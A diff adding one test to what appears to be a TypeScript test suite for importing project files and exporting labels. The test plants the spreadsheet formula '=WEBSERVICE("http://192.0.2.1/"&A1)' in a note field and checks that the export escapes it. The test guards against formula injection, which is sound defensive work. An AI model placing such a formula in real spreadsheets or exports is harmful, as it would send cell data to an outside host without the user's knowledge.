@@ -308,6 +308,15 @@ describe('a file that is no sound project', () => {
     expect(text).toMatch(/^project-file-unusable .*theirs\.shortlist/);
   });
 
+  test('with a note that a spreadsheet would run gives it to none', async () => {
+    const mark = { row: 3, isFlagged: true, note: '=WEBSERVICE("http://192.0.2.1/"&A1)' };
+    const file = await changed('marks.jsonl', () => `${JSON.stringify(mark)}\n`);
+    const { id } = await openProjectFile(file, ignoreProgress);
+    const labels = await (await exportLabels(id)).text();
+    expect(labels).toContain(`flagged,"'=WEBSERVICE(`);
+    await deleteProject(id);
+  });
+
   test('with two parts of one name is refused', async () => {
     const file = await zipped(
       [...sound].map(([name, text]): Part => [name === 'rounds.jsonl' ? 'rows.jsonX' : name, text]),
